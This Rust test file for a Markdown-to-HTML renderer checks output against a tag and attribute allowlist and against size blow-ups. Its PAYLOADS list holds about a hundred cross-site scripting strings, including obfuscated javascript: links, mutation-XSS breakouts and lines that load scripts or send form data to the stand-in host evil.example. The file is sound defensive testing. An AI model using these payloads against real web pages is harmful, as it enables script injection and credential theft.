//! What a model may write to do harm: to readers, and to the server. The output is judged as a browser's tokenizer reads it,
//! against a list of its own.

use super::{Markdown, links, render};
use html5ever::{
    buffer_queue::BufferQueue,
    tendril::StrTendril,
    tokenizer::{Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts},
};
use std::cell::RefCell;

/// Elements, and the attributes that each may have.
const ALLOWED: &[(&str, &[&str])] = &[
    ("a", &["href", "rel", "target"]),
    ("blockquote", &[]),
    ("br", &[]),
    ("button", &["class", "type", "data-copy"]),
    ("code", &["class"]),
    ("del", &[]),
    ("div", &["class", "tabindex", "role", "aria-label"]),
    ("em", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("h5", &[]),
    ("h6", &[]),
    ("hr", &[]),
    ("li", &[]),
    ("ol", &["start"]),
    ("p", &[]),
    ("pre", &["tabindex"]),
    ("span", &["class"]),
    ("strong", &[]),
    ("table", &[]),
    ("tbody", &[]),
    ("td", &["class"]),
    ("th", &["class"]),
    ("thead", &[]),
    ("tr", &[]),
    ("ul", &[]),
];

#[derive(Default)]
struct Seen(RefCell<Vec<Tag>>);

impl TokenSink for Seen {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.0.borrow_mut().push(tag),
            Token::CommentToken(text) => panic!("a comment: {text}"),
            Token::DoctypeToken(_) => panic!("a doctype"),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn tags(html: &str) -> Vec<Tag> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

pub(super) fn assert_harmless(html: &str) {
    let mut open = Vec::new();
    for tag in tags(html) {
        let name = &*tag.name;
        let (_, attributes) =
            ALLOWED.iter().find(|(allowed, _)| *allowed == name).unwrap_or_else(|| panic!("<{name}> in {html}"));
        if tag.kind == TagKind::EndTag {
            assert_eq!(open.pop().as_deref(), Some(name), "unbalanced: {html}");
            continue;
        }
        if !["br", "hr"].contains(&name) {
            open.push(name.to_owned());
        }
        for attribute in &tag.attrs {
            let (key, value) = (&*attribute.name.local, &*attribute.value);
            assert!(attributes.contains(&key), "{key} in {html}");
            let is_class = |class: &str| class.bytes().all(|byte| byte.is_ascii_lowercase() || b"-_".contains(&byte));
            match key {
                "href" => assert!(links::judge(value).is_some(), "{value} in {html}"),
                "class" => assert!(value.split(' ').all(is_class), "{value} in {html}"),
                "start" => assert!(value.bytes().all(|byte| byte.is_ascii_digit()), "{value} in {html}"),
                _ => {}
            }
        }
        let links_out =
            tag.attrs.iter().any(|attribute| &*attribute.name.local == "href" && attribute.value.starts_with("http"));
        assert!(!links_out || tag.attrs.iter().any(|attribute| &*attribute.name.local == "rel"), "{html}");
    }
    assert_eq!(open, Vec::<String>::new(), "unbalanced: {html}");
}

pub(super) const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a <img src=x onerror=alert(1)> b",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example';",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<div onmouseover='alert(1)' style='position:fixed;inset:0'>a</div>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<!--\n\n<img src=x onerror=alert(1)>\n\n",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"x\" onerror=\"alert(1)",
    "<a href=\"https://a.b\" onclick=alert(1)",
    "< script>alert(1)</ script>",
    "<\0script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1)  )",
    "[a](<javascript:alert(1)>)",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A&#x61javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](\u{1}javascript:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](DATA:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](blob:https://a.b/c)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](\\\\evil.example)",
    "[a](/&Tab;/evil.example)",
    "[a](</\t/evil.example>)",
    "[a](https://a.b/\"onmouseover=\"alert(1))",
    "[a](https://a.b/'onmouseover='alert(1))",
    "[a](https://a.b \"\\\" onmouseover=\\\"alert(1)\")",
    "[a](https://a.b '\" onmouseover=\"alert(1)')",
    "[a](https://a.b \"[b](javascript:alert(1))\")",
    "[a](https://a.b \"<script>alert(1)</script>\")",
    "[<img src=x onerror=alert(1)>](https://a.b)",
    "[a<script>alert(1)</script>](javascript:alert(1))",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![\"onerror=\"alert(1)](x)",
    "![a](https://a.b/c.png\"onerror=\"alert(1))",
    "![<script>alert(1)</script>](https://a.b/c.png \"\"onload=alert(1)\")",
    "<javascript:alert(1)>",
    "<javascript&colon;alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<https://a.b/\"onmouseover=\"alert(1)>",
    "<https://a.b/<script>alert(1)</script>>",
    "https://a.b/\"onmouseover=\"alert(1)",
    "https://a.b/<script>alert(1)</script>",
    "<a@b.c\"onmouseover=alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]: <java\tscript:alert(1)>\n\nb\n\n[a] ![a]",
    "[a]: https://a.b '\"onmouseover=\"alert(1)'\n\nb\n\n[a]",
    "```\"><script>alert(1)</script>\na\n```",
    "```<script>\na\n```",
    "```rust\" onmouseover=\"alert(1)\na\n```",
    "~~~'\"><img/src=x/onerror=alert(1)>\na\n~~~",
    "```html\n<script>alert(1)</script></code></pre><script>alert(2)</script>\n```",
    "```html\n</code></pre></div><img src=x onerror=alert(1)>",
    "```rust\nlet a = \"</span><script>alert(1)</script>\"; // <b>\n```",
    "- ```html\n  </code><script>alert(1)</script>\n  ```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``</code><script>alert(1)</script>``",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `</td><script>` |",
    "# <script>alert(1)</script>",
    "# a {#id onclick=alert(1)}",
    "> <script>\n> alert(1)\n> </script>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "1. <svg onload=alert(1)>",
    "99999999999999999999. a",
    "**<script>**alert(1)**</script>**",
    "<b>**a**</b><i>",
    "[a](https://a.b) <https://c.d> ![e](https://f.g) https://h.i <a href=https://j.k>",
];

#[test]
fn nothing_of_what_is_hostile_passes_at_any_moment() {
    for payload in PAYLOADS {
        for text in
            [(*payload).to_owned(), format!("a\n\n{payload}\n\nb"), format!("> {payload}\n"), format!("- {payload}\n")]
        {
            render(&text).iter().for_each(|block| assert_harmless(block));
            let mut document = Markdown::default();
            for letter in text.chars() {
                document.push(letter.encode_utf8(&mut [0; 4]));
                document.blocks().iter().for_each(|block| assert_harmless(block));
            }
        }
    }
}

#[test]
fn raw_html_is_shown_as_the_text_it_is() {
    assert_eq!(render("a <b>b</b>").concat(), "<p>a &lt;b&gt;b&lt;/b&gt;</p>");
    assert_eq!(render("<script>a</script>").concat(), "<p>&lt;script&gt;a&lt;/script&gt;</p>");
    assert_eq!(render("<!-- a -->").concat(), "<p>&lt;!-- a --&gt;</p>");
}

#[test]
fn the_judge_of_these_tests_finds_what_is_harmful() {
    for html in [
        "<script>",
        "<p onclick=a>",
        "<a href=javascript:a></a>",
        "<a href=https://a.b></a>",
        "<img src=a>",
        "<p>",
        "</p>",
        "<!-- a -->",
    ] {
        assert!(std::panic::catch_unwind(|| assert_harmless(html)).is_err(), "{html}");
    }
}

#[test]
fn no_text_takes_the_server_down() {
    let many = |piece: &str| piece.repeat(10_000);
    let lines = |piece: &str| format!("{piece}\n").repeat(500);
    let mut texts: Vec<_> = [
        ">", "> ", "[", "]", "*", "_", "`", "~", "- ", "1. ", "![", "](", "[]", "<", "&", "\\", "|", "|a", "#", "a*b_",
        "*a **b ", "`a``", "<a ", "<!--", "[a](", "http://", "\0", "é", "\t", "=", "***a*** ",
    ]
    .iter()
    .map(|piece| many(piece))
    .collect();
    texts.extend(
        [">", "- a", "`", "|", "<!--", "[a]: b", "a\n===", "~~~", "```", "* a\n\n  b", "    a", "1)", "<div>"]
            .map(lines),
    );
    // A table whose rows are filled up with cells.
    texts.push(format!("{}|\n{}|\n{}", "|a".repeat(2_000), "|-".repeat(2_000), "|\n".repeat(3_000)));
    texts.push(format!("{}\n{}", "> ".repeat(5_000), "a\n".repeat(5_000)));
    texts.push((0..200).map(|depth| format!("{}- a\n", "  ".repeat(depth))).collect());
    for text in texts {
        let mut document = Markdown::default();
        let middle = text.floor_char_boundary(text.len() / 2);
        document.push(&text[..middle]);
        document.push(&text[middle..]);
        document.finish();
        let length: usize = document.blocks().iter().map(String::len).sum();
        let most = 64 * text.len() + 10_000;
        assert!(length < most, "{} bytes of {}… became {length}", text.len(), &text[..text.floor_char_boundary(20)]);
        document.blocks().iter().for_each(|block| assert_harmless(block));
    }
}
